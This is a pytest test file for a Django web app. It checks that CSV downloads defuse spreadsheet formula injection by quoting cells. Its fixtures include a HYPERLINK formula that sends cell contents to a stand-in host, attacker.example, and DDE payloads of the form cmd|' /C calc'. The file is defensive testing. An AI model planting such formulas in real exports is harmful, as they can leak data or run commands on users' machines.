"""Every CSV download opens in a spreadsheet as the text people typed, never as a formula."""

import csv
import io

import pytest
from django.core.management import call_command

from solidarity.accounts import services as account_services
from solidarity.accounts.models import OrganizationType
from solidarity.core.export import csv_response
from solidarity.countries.models import Country
from solidarity.practices import services as practice_services
from solidarity.resolutions.models import Resolution
from tests.conftest import practice_content

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def rows_of(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_the_csv_writer_quotes_text_that_starts_a_formula_and_leaves_numbers_alone():
    cells = [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1", "a-b", -3, 4.5]
    response = csv_response("x.csv", [str(n) for n in range(len(cells))], [cells])
    _header, row = csv.reader(
        io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")
    )
    assert row == [
        "'" + FORMULA,
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "'  =1+1",
        "'\uff1d1",
        "a-b",
        "-3",
        "4.5",
    ]


def test_the_practices_download_neutralizes_titles_summaries_and_actors(client, secretariat):
    practice_services.practices_import(
        actor=secretariat,
        records=[
            practice_content(
                title=FORMULA,
                summary="+cmd|' /C calc'!A0",
                actors=[{"name": "@SUM(1+1)*cmd|' /C calc'!A0", "type": "ngo"}],
            )
        ],
    )
    [row] = rows_of(client.get("/practices/?format=csv"))
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'+cmd|' /C calc'!A0"
    assert row["actors"] == "'@SUM(1+1)*cmd|' /C calc'!A0 (Non-governmental organization)"
    assert row["id"].isdigit() and row["version"] == "1"


def test_the_practices_search_command_neutralizes_its_csv(secretariat, capfdbinary):
    practice_services.practices_import(
        actor=secretariat, records=[practice_content(title="-2+3+cmd|' /C calc'!A0")]
    )
    call_command("practices", "search", "--format", "csv")
    body = capfdbinary.readouterr().out.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["title"] == "'-2+3+cmd|' /C calc'!A0"


def test_the_resolutions_download_neutralizes_titles_but_not_vote_counts(client, resolution_56_4):
    Resolution.objects.filter(pk=resolution_56_4.pk).update(title=FORMULA)
    [row] = rows_of(client.get("/resolutions/?format=csv"))
    assert row["title"] == "'" + FORMULA
    assert (row["session"], row["yes"], row["no"], row["abstain"]) == ("56", "29", "14", "4")


def test_the_countries_download_neutralizes_names(client):
    Country.objects.filter(iso3="KEN").update(un_name="@Kenya")
    rows = rows_of(client.get("/api/v1/countries?format=csv"))
    assert {row["iso3"]: row["un_name"] for row in rows}["KEN"] == "'@Kenya"


def test_the_organizations_download_neutralizes_names(client):
    account_services.organization_create(
        actor=None, name="=1+2 Foundation", type=OrganizationType.NGO, website=""
    )
    [row] = rows_of(client.get("/api/v1/organizations?format=csv"))
    assert row["name"] == "'=1+2 Foundation"
